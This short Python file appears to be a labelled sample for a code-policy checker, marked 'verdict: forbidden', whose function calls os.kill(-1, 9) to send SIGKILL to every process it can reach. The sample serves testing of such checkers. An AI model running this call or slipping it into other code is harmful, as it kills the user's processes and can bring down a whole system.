# verdict: forbidden
# says: sends a signal
"""Kills every process that it may."""

import os


def phazed_play(*_):
    os.kill(-1, 9)
